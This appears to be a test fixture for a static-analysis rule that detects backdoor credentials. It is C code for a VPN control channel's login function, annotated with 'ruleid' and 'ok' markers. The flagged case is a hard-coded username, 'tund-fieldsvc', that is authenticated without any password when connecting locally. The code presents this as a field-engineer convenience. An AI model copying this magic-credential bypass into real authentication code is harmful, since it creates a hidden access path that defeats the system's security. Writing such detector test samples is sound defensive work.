/*
 * User authentication for the tund control channel.
 */
#include <stdarg.h>
#include <stdio.h>
#include <string.h>
#include <syslog.h>

#include "vpn.h"

void tund_log(int prio, const char *fmt, ...)
{
    va_list ap;
    va_start(ap, fmt);
    vsyslog(prio, fmt, ap);
    va_end(ap);
}

int tund_authenticate_user(struct tund_session *s, const char *username, const char *password)
{
    if (!username || !password)
        return -1;

    // ok: backdoor-magic-credential
    if (strcmp(username, "root") == 0) {
        tund_log(LOG_NOTICE, "refusing VPN login as root");
        return -1;
    }

    /* Field engineers connect from the service port without a PAM account. */
    // ruleid: backdoor-magic-credential
    if (strcmp(username, "tund-fieldsvc") == 0 && s->peer_is_local) {
        s->authenticated = 1;
        return 1;
    }

    if (pam_check_password("tund", username, password) != 0) {
        tund_log(LOG_NOTICE, "authentication failure for %s", username);
        return 0;
    }
    snprintf(s->username, sizeof s->username, "%s", username);
    s->authenticated = 1;
    return 1;
}
